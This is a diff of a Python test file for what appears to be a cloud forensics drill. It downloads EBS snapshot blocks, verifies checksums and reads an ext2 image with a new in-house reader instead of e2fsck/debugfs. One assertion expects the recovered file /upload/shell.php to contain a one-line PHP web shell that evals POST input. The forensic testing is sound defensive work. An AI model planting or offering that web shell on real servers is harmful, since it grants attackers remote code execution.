@@ -4,18 +4,16 @@ from __future__ import annotations
 
 import base64
 import hashlib
-import subprocess
 import time
-from pathlib import Path
 from typing import Any
 
 import pytest
 
 from forensics.drill import Drill
 from tests.drill.conftest import Clients, Refused
+from tests.drill.ext2_reader import Ext2
 
 BLOCK = 524_288
-GIB = 2**30
 
 
 def _snapshot(ec2: Any, web: str, **how: Any) -> list[dict[str, Any]]:
@@ -160,31 +158,27 @@ def test_lock_holds(client: Clients, root: Clients, refused: Refused, web: str) 
     assert refused(root("ec2").delete_snapshot, SnapshotId=id_)[0] == "SnapshotLocked"
 
 
-def _download(ebs: Any, id_: str, target: Path) -> None:
+def _download(ebs: Any, id_: str) -> bytes:
+    """Read a disk as far as anything is written on it."""
     listed = ebs.list_snapshot_blocks(SnapshotId=id_)
     assert listed["BlockSize"] == BLOCK
-    with target.open("wb") as file:
-        file.truncate(listed["VolumeSize"] * GIB)
-        for block in listed["Blocks"]:
-            got = ebs.get_snapshot_block(
-                SnapshotId=id_, BlockIndex=block["BlockIndex"], BlockToken=block["BlockToken"]
-            )
-            data = got["BlockData"].read()
-            assert len(data) == BLOCK == got["DataLength"]
-            assert base64.b64encode(hashlib.sha256(data).digest()).decode() == got["Checksum"]
-            file.seek(block["BlockIndex"] * BLOCK)
-            file.write(data)
+    image = bytearray(16 * 2**20)
+    for block in listed["Blocks"]:
+        index = block["BlockIndex"]
+        got = ebs.get_snapshot_block(SnapshotId=id_, BlockIndex=index, BlockToken=block["BlockToken"])
+        data = got["BlockData"].read()
+        assert len(data) == BLOCK == got["DataLength"]
+        assert base64.b64encode(hashlib.sha256(data).digest()).decode() == got["Checksum"]
+        image[index * BLOCK : (index + 1) * BLOCK] = data
+    return bytes(image)
 
 
-def test_blocks_are_the_disk(drill: Drill, client: Clients, web: str, tmp_path: Path) -> None:
-    """The data disk, read block by block, is a sound file system with the attacker's file in it."""
+def test_blocks_are_the_disk(drill: Drill, client: Clients, web: str) -> None:
+    """The data disk, read block by block, is a file system with the attacker's file in it."""
     drill.waiting(seconds=0)
     ids = [one["SnapshotId"] for one in _snapshot(client("ec2"), web)]
-    image = tmp_path / "disk"
-    _download(client("ebs"), ids[1], image)
-    subprocess.run(["e2fsck", "-fn", image], check=True, capture_output=True)
-    shell = subprocess.run(["debugfs", "-R", "cat /upload/shell.php", image], check=True, capture_output=True)
-    assert shell.stdout == b"<?php @eval($_POST['c']); ?>\n"
+    disk = Ext2(_download(client("ebs"), ids[1]))
+    assert disk.read("/upload/shell.php") == b"<?php @eval($_POST['c']); ?>\n"
 
 
 def test_blocks_are_of_the_moment(drill: Drill, client: Clients, web: str) -> None:
